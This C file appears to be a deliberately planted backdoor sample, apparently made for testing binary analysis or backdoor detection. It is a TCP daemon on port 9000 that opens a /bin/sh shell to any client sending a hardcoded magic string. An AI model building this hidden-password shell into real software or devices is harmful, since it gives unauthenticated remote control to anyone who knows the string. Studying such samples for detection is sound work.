/* A router-style debug daemon: reads a line from a TCP client; one magic line gets a shell.
 * (gcc 12 at -O2 inlines strcmp against a constant whose size is a multiple of 8 bytes: the
 * 30-character magic keeps the call, as older firmware compilers would.) */
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void serve(int fd) {
  char buf[128];
  ssize_t n = recv(fd, buf, sizeof buf - 1, 0);
  if (n <= 0) return;
  buf[n] = 0;
  buf[strcspn(buf, "\r\n")] = 0;
  if (strcmp(buf, "vndr-maint-5d3a-r00t-access-88") == 0) {
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    execl("/bin/sh", "sh", (char *)0);
  }
  send(fd, "unknown command\n", 16, 0);
}

int main(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {0};
  a.sin_family = AF_INET;
  a.sin_port = htons(9000);
  bind(s, (struct sockaddr *)&a, sizeof a);
  listen(s, 4);
  for (;;) {
    int c = accept(s, 0, 0);
    if (c < 0) continue;
    serve(c);
    close(c);
  }
}
